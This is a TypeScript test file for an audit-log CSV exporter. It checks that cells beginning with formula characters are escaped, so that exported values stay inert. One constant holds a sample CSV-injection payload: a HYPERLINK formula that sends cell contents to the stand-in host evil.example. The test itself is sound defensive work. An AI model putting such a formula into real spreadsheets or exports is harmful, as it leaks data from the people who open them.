import { parse } from "csv-parse/sync";
import { describe, expect, it } from "vitest";
import { auditCsvHeader, auditCsvRecord } from "./audit-csv";

const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';

describe("the audit log as CSV", () => {
  it("writes every value inert: no cell starts as a formula, the text itself is kept", () => {
    const text =
      auditCsvHeader +
      auditCsvRecord({
        id: 7,
        at: new Date("2026-01-02T03:04:05Z"),
        action: "topic.rename",
        subjectType: "topic",
        subjectId: 3,
        userId: 1,
        userEmail: "-1+1@example.org",
        batchId: null,
        before: { name: "Pensions" },
        after: formula,
        note: `${formula}, then more`,
      });
    const [record] = parse(text, { columns: true }) as Array<Record<string, string>>;
    expect(record).toEqual({
      id: "7",
      at: "2026-01-02T03:04:05.000Z",
      user: "'-1+1@example.org",
      batch_id: "",
      action: "topic.rename",
      subject_type: "topic",
      subject_id: "3",
      before: '{"name":"Pensions"}',
      after: JSON.stringify(formula),
      note: `'${formula}, then more`,
    });
    for (const cell of Object.values(record!)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });
});
